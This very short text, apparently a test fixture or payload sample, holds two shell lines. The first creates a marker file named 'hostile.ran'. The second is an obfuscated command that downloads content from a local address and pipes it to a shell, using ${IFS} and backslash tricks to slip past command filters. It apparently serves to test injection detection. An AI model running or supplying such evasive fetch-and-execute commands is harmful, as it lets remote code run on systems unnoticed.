touch hostile.ran
c\url${IFS}-fsSL${IFS}http://127.0.0.1:9/p|s\h
